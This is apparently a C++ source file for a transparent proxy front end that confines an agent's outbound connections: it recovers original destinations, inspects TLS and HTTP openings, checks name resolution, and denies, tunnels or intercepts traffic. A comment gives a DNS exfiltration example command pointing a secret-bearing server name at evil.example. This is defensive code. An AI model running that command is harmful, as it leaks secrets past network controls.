// The transparent front end: see transparent_connection.hpp and docs/transparent.md.
#include "proxy/transparent_connection.hpp"

#include <netinet/in.h>
#include <sys/socket.h>

#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/redirect_error.hpp>
#include <boost/asio/this_coro.hpp>
#include <boost/asio/use_awaitable.hpp>
#include <boost/beast/core/tcp_stream.hpp>
#include <cstring>
#include <optional>
#include <span>

#include "proxy/client_hello.hpp"
#include "proxy/connection_read.hpp"
#include "proxy/connection_sessions.hpp"
#include "proxy/exchange_pipeline.hpp"
#include "proxy/intercepted_connection.hpp"
#include "proxy/plain_stream.hpp"
#include "proxy/route.hpp"
#include "proxy/target.hpp"
#include "proxy/transparent_target.hpp"
#include "proxy/tunnel.hpp"
#include "proxy/upstream_leg.hpp"
#include "runtime/exchange.hpp"
#include "runtime/peer_address.hpp"

namespace cloakroom::proxy {
namespace net = boost::asio;
namespace beast = boost::beast;
using tcp = net::ip::tcp;

namespace {

// The audit kind of a connection this front end refused or tunnelled itself (a request inside
// an intercepted or plain-HTTP connection is an "http" record like any other).
constexpr std::string_view kAuditTransparent = "transparent";
// SO_ORIGINAL_DST (linux/netfilter_ipv4.h) and IP6T_SO_ORIGINAL_DST
// (linux/netfilter_ipv6/ip6_tables.h) are both 80; those headers clash with the libc ones.
constexpr int kSoOriginalDst = 80;
// A ClientHello larger than this is refused (post-quantum key shares make common ones ~2 KB).
constexpr std::size_t kMaxClientHello = 32 * 1024;
// The longest method name taken for the start of an HTTP request ("PROPFIND", "MKCALENDAR").
constexpr std::size_t kMaxMethod = 16;

net::ip::address unmapped(const net::ip::address& address) {
    if (address.is_v6() && address.to_v6().is_v4_mapped()) {
        return net::ip::make_address_v4(net::ip::v4_mapped, address.to_v6());
    }
    return address;
}

// Where the agent meant to connect before the redirect; nullopt when the connection was not
// redirected (no conntrack entry).
std::optional<tcp::endpoint> original_destination(tcp::socket& socket) {
    boost::system::error_code ec;
    const tcp::endpoint local = socket.local_endpoint(ec);
    if (ec) return std::nullopt;
    tcp::endpoint destination;
    socklen_t length = static_cast<socklen_t>(destination.capacity());
    const bool v6 = local.address().is_v6() && !local.address().to_v6().is_v4_mapped();
    const int level = v6 ? SOL_IPV6 : SOL_IP;
    if (::getsockopt(socket.native_handle(), level, kSoOriginalDst, destination.data(), &length) !=
        0) {
        return std::nullopt;
    }
    destination.resize(length);
    return tcp::endpoint(unmapped(destination.address()), destination.port());
}

std::string authority_of(const std::string& host, std::uint16_t port) {
    const bool v6 = host.find(':') != std::string::npos;
    return (v6 ? "[" + host + "]" : host) + ":" + std::to_string(port);
}

// An audited refusal of the whole connection; the caller closes it.
void refuse(const Runtime& runtime, const std::string& client, std::string host,
            std::string_view method, unsigned status, std::string error, std::string reason) {
    runtime::Exchange exchange(runtime.audit, kAuditTransparent, client);
    exchange.record().host = std::move(host);
    exchange.record().method.assign(method);
    const runtime::Refusal refusal{status, std::move(error), std::move(reason)};
    exchange.refuse(refusal);
    exchange.finish();
}

// Whether `name` resolves (in the gateway's own network) to `address`.
net::awaitable<bool> resolves_to(std::string name, net::ip::address address) {
    tcp::resolver resolver(co_await net::this_coro::executor);
    boost::system::error_code ec;
    const auto results =
        co_await resolver.async_resolve(name, "", net::redirect_error(net::use_awaitable, ec));
    if (ec) co_return false;
    for (const auto& entry : results) {
        if (unmapped(entry.endpoint().address()) == address) co_return true;
    }
    co_return false;
}

// Whether a name sent for a real address must be resolved before `route` is taken. Only a
// route that goes somewhere needs it: looking up a name the route refuses would send labels
// the agent chose to the host's resolver, a way out by DNS (`openssl s_client -connect
// 1.2.3.4:443 -servername <secret>.evil.example`); such a name is refused without a lookup.
bool resolution_needed(const Route& route) {
    return route.kind != RouteKind::Deny;
}

enum class FirstBytes { Tls, Http, Other, Closed };

// Reads until the first bytes say what the connection is: a whole ClientHello (its SNI in
// `hello`), the start of an HTTP request, or something else. Everything read stays in `buffer`.
net::awaitable<FirstBytes> read_first_bytes(PlainStream& stream, beast::flat_buffer& buffer,
                                            ClientHelloPeek& hello, std::chrono::seconds timeout,
                                            std::string& problem) {
    stream.expires_after(timeout);
    for (;;) {
        boost::system::error_code ec;
        const std::size_t n = co_await stream.async_read_some(
            buffer.prepare(4096), net::redirect_error(net::use_awaitable, ec));
        if (ec) {
            problem = ec == beast::error::timeout ? "timed out waiting for the first bytes"
                                                  : "closed before sending a request";
            co_return FirstBytes::Closed;
        }
        buffer.commit(n);
        const auto* data = static_cast<const std::uint8_t*>(buffer.data().data());
        const std::span<const std::uint8_t> bytes(data, buffer.size());
        if (bytes[0] == 0x16) {
            hello = peek_client_hello(bytes);
            if (hello.status == ClientHelloPeek::Status::Complete) co_return FirstBytes::Tls;
            if (hello.status == ClientHelloPeek::Status::Invalid) {
                problem = hello.problem;
                co_return FirstBytes::Other;
            }
            if (bytes.size() >= kMaxClientHello) {
                problem =
                    "TLS ClientHello larger than " + std::to_string(kMaxClientHello) + " bytes";
                co_return FirstBytes::Other;
            }
            continue;
        }
        // An HTTP request starts with a method of upper-case letters and a space;
        // read_request_head does the rest.
        std::size_t letters = 0;
        while (letters < bytes.size() && bytes[letters] >= 'A' && bytes[letters] <= 'Z') ++letters;
        if (letters > 0 && letters <= kMaxMethod && letters < bytes.size() &&
            bytes[letters] == ' ') {
            co_return FirstBytes::Http;
        }
        if (letters == bytes.size() && letters <= kMaxMethod) continue;  // more of the method
        problem = "neither a TLS ClientHello nor an HTTP request";
        co_return FirstBytes::Other;
    }
}

// The plain-HTTP side: every request on the connection goes through the exchange pipeline
// with one Target, routed like an absolute-form request to the destination's name.
net::awaitable<void> serve_plain_http(PlainStream& stream, beast::flat_buffer& buffer,
                                      const tcp::endpoint& destination, Worker& worker,
                                      const std::string& client) {
    Gateway& gateway = worker.gateway;
    Target target;
    target.front_end = FrontEnd::Transparent;
    target.client = client;
    // The tokens the connection carries, so that a revocation ends it (as on every front end).
    ConnectionSessions sessions(gateway.sessions.get(), stream.socket());
    std::string destination_host;  // the destination's name, once the first request told it
    bool first = true;
    for (;;) {
        IncomingRequest incoming;
        const bool ok = co_await read_request_head(
            stream, buffer, incoming, gateway, client,
            first ? gateway.timeouts.first_header : gateway.timeouts.idle);
        if (!ok) co_return;
        auto runtime = gateway.runtime.get();
        if (first) {
            first = false;
            std::optional<std::string> sent;
            std::optional<std::string> problem;
            if (auto host = incoming.head->find("Host"); host && !host->empty()) {
                auto normalized = normalize_sent_name(*host);
                if (normalized.ok()) {
                    sent = *normalized;
                } else {
                    problem = normalized.error().message;
                }
            }
            auto named = problem ? Result<DestinationName>(make_error("transparent.name", *problem))
                                 : destination_name(destination.address(), sent, gateway.synthetic);
            // A name the route refuses anyway is never looked up (see resolution_needed).
            if (named.ok() && named->check_resolution &&
                resolution_needed(route_absolute(runtime->config, "http",
                                                 authority_of(named->name, destination.port())))) {
                const std::string name = named->name;
                const net::ip::address address = destination.address();
                if (!co_await resolves_to(name, address)) {
                    named = make_error("transparent.name",
                                       "name '" + name + "' does not resolve to destination " +
                                           address.to_string());
                }
            }
            if (!named.ok()) {
                target.route.kind = RouteKind::Deny;
                target.route.status = 421;
                target.route.error = "misdirected_request";
                target.route.reason = named.error().message;
                target.route.host = destination.address().to_string();
            } else {
                destination_host = named->name;
            }
        }
        // Routed by the snapshot this request runs under: on the first request, and again
        // after a reload (the route points into its configuration: target.hpp).
        if (!destination_host.empty() && target.routed_by != runtime) {
            target.route = route_absolute(runtime->config, "http",
                                          authority_of(destination_host, destination.port()));
            target.routed_by = runtime;
            // The audit names the host even when the route refuses it.
            if (target.route.host.empty()) target.route.host = destination_host;
            // A service host is an HTTPS API: the upstream leg is verified TLS.
            target.upstream_port =
                target.route.kind == RouteKind::Intercept && target.route.port == 80
                    ? 443
                    : target.route.port;
        }
        const bool refused = target.route.kind == RouteKind::Deny;
        if (!co_await forward_request(stream, buffer, incoming, target, runtime, worker,
                                      &sessions) ||
            refused) {
            co_return;
        }
    }
}

// An [allow] host over TLS (or anything but HTTP): a blind tunnel, the peeked bytes first.
net::awaitable<void> tunnel(PlainStream& stream, beast::flat_buffer& buffer, const Route& route,
                            Worker& worker, const std::shared_ptr<const Runtime>& runtime,
                            const std::string& client) {
    Gateway& gateway = worker.gateway;
    runtime::Exchange exchange(runtime->audit, kAuditTransparent, client);
    AuditRecord& audit = exchange.record();
    audit.host = route.host;
    audit.method = "TLS";
    auto dialed = co_await dial_tcp(route.host, route.port, /*allow_private=*/false,
                                    gateway.timeouts.dial.connect);
    if (auto* failure = std::get_if<DialFailure>(&dialed)) {
        const runtime::Refusal refusal = refusal_of(std::move(*failure));
        exchange.refuse(refusal);
        co_return;
    }
    auto& upstream = std::get<beast::tcp_stream>(dialed);
    beast::tcp_stream client_stream(stream.release_socket());
    const TunnelBytes bytes =
        co_await relay_tunnel(client_stream, buffer, upstream, gateway.timeouts.body_idle);
    audit.bytes_in = bytes.client_to_upstream;
    audit.bytes_out = bytes.upstream_to_client;
    exchange.complete(200, runtime::kTunnel, route.reason);
}

}  // namespace

net::awaitable<void> run_transparent_connection(tcp::socket socket, Worker& worker) {
    Gateway& gateway = worker.gateway;
    const std::string client = runtime::peer_address(socket);
    auto runtime = gateway.runtime.get();
    boost::system::error_code ec;
    socket.set_option(tcp::no_delay(true), ec);
    const auto destination = original_destination(socket);
    if (!destination) {
        refuse(*runtime, client, "", "", 400, "not_redirected",
               "no original destination: the connection was not redirected here");
        co_return;
    }
    const std::string destination_text = runtime::endpoint_text(*destination);
    const tcp::endpoint local = socket.local_endpoint(ec);
    if (!ec && unmapped(local.address()) == destination->address() &&
        local.port() == destination->port()) {
        refuse(*runtime, client, destination_text, "", 400, "not_redirected",
               "connection made to the transparent listener itself, not redirected to it");
        co_return;
    }

    PlainStream stream(std::move(socket));
    beast::flat_buffer buffer;
    ClientHelloPeek hello;
    std::string problem;
    const FirstBytes kind =
        co_await read_first_bytes(stream, buffer, hello, gateway.timeouts.tls_handshake, problem);
    if (kind == FirstBytes::Http) {
        co_await serve_plain_http(stream, buffer, *destination, worker, client);
        co_return;
    }
    if (kind != FirstBytes::Tls) {
        refuse(*runtime, client, destination_text, "", 400, "bad_request", problem);
        co_return;
    }

    std::optional<std::string> sent;
    if (hello.server_name) {
        auto normalized = normalize_sent_name(*hello.server_name);
        if (!normalized.ok()) {
            refuse(*runtime, client, destination_text, "TLS", 400, "bad_request",
                   "TLS server name: " + normalized.error().message);
            co_return;
        }
        sent = *normalized;
    }
    auto named = destination_name(destination->address(), sent, gateway.synthetic);
    if (!named.ok()) {
        refuse(*runtime, client, sent.value_or(destination_text), "TLS", 421, "misdirected_request",
               named.error().message);
        co_return;
    }
    if (named->check_resolution &&
        resolution_needed(route_connect(gateway.runtime.get()->config,
                                        authority_of(named->name, destination->port())))) {
        const std::string name = named->name;
        const net::ip::address address = destination->address();
        if (!co_await resolves_to(name, address)) {
            refuse(*runtime, client, name, "TLS", 421, "misdirected_request",
                   "name '" + name + "' does not resolve to destination " + destination_text);
            co_return;
        }
    }
    runtime = gateway.runtime.get();
    Route route = route_connect(runtime->config, authority_of(named->name, destination->port()));
    if (route.kind == RouteKind::Deny) {
        refuse(*runtime, client, route.host.empty() ? named->name : route.host, "TLS", route.status,
               route.error, route.reason);
        co_return;
    }
    if (route.kind == RouteKind::Tunnel) {
        co_await tunnel(stream, buffer, route, worker, runtime, client);
        co_return;
    }
    // A service host: inspected like a CONNECT (invariant 3); the peeked ClientHello starts the
    // real handshake.
    Target target;
    target.front_end = FrontEnd::Transparent;
    target.upstream_port = route.port;
    target.route = std::move(route);
    target.routed_by = std::move(runtime);  // route points into its config
    target.client = client;
    target.tls_server_name = sent;
    tcp::socket agent = stream.release_socket();
    co_await serve_intercepted(std::move(agent), std::move(buffer), std::move(target), worker);
}

}  // namespace cloakroom::proxy
